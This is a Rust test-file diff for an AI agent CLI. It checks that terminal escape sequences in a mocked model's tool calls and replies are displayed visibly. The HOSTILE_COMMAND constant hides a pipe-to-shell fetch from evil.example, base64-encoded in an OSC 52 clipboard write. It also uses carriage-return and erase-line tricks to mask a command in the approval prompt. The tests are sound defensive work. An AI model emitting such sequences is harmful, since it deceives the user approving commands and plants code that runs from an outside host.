@@ -4,8 +4,9 @@
 //! its control characters made visible (`\u{1b}`), in every output mode.
 
 use std::fs;
+use std::process::Command;
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use crate::support::Repo;
 use crate::support::mock::{MockServer, openai};
@@ -124,4 +125,154 @@ fn a_plugin_command_tool_runs_in_a_session_of_its_own() {
     let ours = i64::from(nix::unistd::getsid(None).expect("getsid").as_raw());
     assert_ne!(sid, ours, "the command shares the test's session: {result}");
     assert_eq!(sid, pgid, "{result}");
+}
+
+/// A command whose own text and output carry OSC 52 (set the clipboard), OSC 2 (retitle the
+/// window), a C1 CSI and a `\r` + erase-line that would hide what runs behind
+/// `cargo test --quiet`.
+const HOSTILE_COMMAND: &str = "echo \u{1b}]2;pwned\u{7}; printf 'x\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007y\\n'; echo 'evil-part' #\r\u{1b}[2Kcargo test --quiet";
+
+/// Model text with the same tricks, C1 and DEL included.
+const HOSTILE_TEXT: &str = "all good \u{1b}]52;c;Y3VybA==\u{7} here\u{1b}]2;pwned\u{7}\r\u{1b}[2Kfine \u{9b}31m red\u{7f}\n";
+
+/// The bytes no hostile string may bring to nop's output: ESC, BEL, CR and the C1 CSI.
+fn raw_controls(bytes: &[u8]) -> Vec<String> {
+    let text = String::from_utf8_lossy(bytes);
+    text.char_indices()
+        .filter(|(_, c)| matches!(c, '\u{1b}' | '\u{7}' | '\r' | '\u{9b}' | '\u{7f}'))
+        .map(|(i, c)| {
+            let from = text[..i].char_indices().rev().nth(30).map_or(0, |(j, _)| j);
+            format!("{:?} after {:?}", c, &text[from..i])
+        })
+        .collect()
+}
+
+fn hostile_script() -> Vec<crate::support::mock::MockResponse> {
+    vec![
+        openai::reply_tool_calls(&[("s1", "shell", json!({ "command": HOSTILE_COMMAND }))]),
+        openai::reply_tool_calls(&[(
+            "p1",
+            "update-plan",
+            json!({"tasks": [{"id": "1", "title": "Plan \u{1b}]2;pwned\u{7}step", "status": "in_progress"}]}),
+        )]),
+        openai::reply_tool_calls(&[(
+            "w1",
+            "write-file",
+            json!({"path": "notes/\u{1b}[8mhidden.txt", "content": "line \u{1b}]52;c;Y3VybA==\u{7}\n"}),
+        )]),
+        openai::reply_text(HOSTILE_TEXT),
+    ]
+}
+
+#[test]
+fn control_characters_from_the_model_are_shown_visibly_in_text_mode() {
+    let repo = Repo::new();
+    let server = MockServer::start(hostile_script());
+    let out = repo.model_ok(&server, &["run", "--output-format", "text", "do it"]);
+    let both = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
+    let shown = String::from_utf8_lossy(&both);
+    assert_eq!(raw_controls(&both), Vec::<String>::new(), "{shown}");
+    // The command line in full, its hidden tail included.
+    assert!(
+        shown.contains("echo \\u{1b}]2;pwned\\u{7};"),
+        "the command's escapes are not visible: {shown}"
+    );
+    // The tool line is cut at 120 characters, but what is shown is what was sent.
+    assert!(shown.contains("#\\u{d}\\u{1b}[2K"), "{shown}");
+    assert!(
+        shown.contains("all good \\u{1b}]52;c;Y3VybA==\\u{7} here"),
+        "{shown}"
+    );
+    assert!(shown.contains("fine \\u{9b}31m red\\u{7f}"), "{shown}");
+}
+
+#[test]
+fn json_outputs_escape_the_models_control_characters() {
+    for format in ["json", "stream-json"] {
+        let repo = Repo::new();
+        let server = MockServer::start(hostile_script());
+        let out = repo.model_ok(&server, &["run", "--output-format", format, "do it"]);
+        let shown = String::from_utf8_lossy(&out.stdout).into_owned();
+        assert_eq!(
+            raw_controls(&out.stdout),
+            Vec::<String>::new(),
+            "{format}: {shown}"
+        );
+        // Escaped, not lost: a JSON reader gets the model's text back exactly.
+        let last: Value = shown
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .next_back()
+            .expect("a JSON line");
+        let text = last["final_message"]
+            .as_str()
+            .or_else(|| last["result"]["final_message"].as_str())
+            .unwrap_or_default();
+        assert_eq!(
+            text.trim_end(),
+            HOSTILE_TEXT.trim_end(),
+            "{format}: {shown}"
+        );
+    }
+}
+
+/// The screen with the lines the 120-column terminal wrapped joined again (and every other
+/// line too: for `contains` only).
+fn unwrapped(screen: &str) -> String {
+    screen.replace('\n', "")
+}
+
+/// The window title tmux keeps for the pane (OSC 2 sets it).
+fn pane_title(t: &Terminal) -> String {
+    let out = Command::new("tmux")
+        .args(["display-message", "-p", "-t", &t.0, "#{pane_title}"])
+        .output()
+        .expect("tmux display-message");
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+#[test]
+fn the_approval_question_and_the_transcript_show_the_models_escapes_visibly() {
+    let repo = Repo::new();
+    let server = MockServer::start(hostile_script());
+    let t = Terminal::start(
+        &repo,
+        &server,
+        "hostile",
+        "run --approval always",
+        &[],
+        "/help for commands",
+    );
+    let title = pane_title(&t);
+    t.type_line("do it");
+    let screen = unwrapped(&t.wait_for("allow?"));
+    // The whole command, its hidden tail visible: nothing was erased from the question.
+    assert!(
+        screen.contains("echo \\u{1b}]2;pwned\\u{7};"),
+        "the question hides the command: {screen}"
+    );
+    assert!(
+        screen.contains("echo 'evil-part' #\\u{d}\\u{1b}[2Kcargo test --quiet"),
+        "{screen}"
+    );
+    t.press(&["y"]);
+    // The write of the file is asked about next.
+    let screen = t.wait_for_after("✓ yes", "allow?");
+    t.press(&["y"]);
+    let screen = unwrapped(&[screen, t.wait_for_prompt_after("red")].join("\n"));
+    // The output of the command, the plan title, the file name and the answer: visible.
+    assert!(screen.contains("x\\u{1b}]52;c;"), "{screen}");
+    assert!(
+        screen.contains("Plan \\u{1b}]2;pwned\\u{7}step"),
+        "{screen}"
+    );
+    assert!(screen.contains("notes/\\u{1b}[8mhidden.txt"), "{screen}");
+    assert!(
+        screen.contains("all good \\u{1b}]52;c;Y3VybA==\\u{7} here"),
+        "{screen}"
+    );
+    assert!(screen.contains("fine \\u{9b}31m red\\u{7f}"), "{screen}");
+    assert_eq!(pane_title(&t), title, "the model retitled the window");
+    t.type_line("/exit");
+    t.wait_for("saved; continue with");
 }
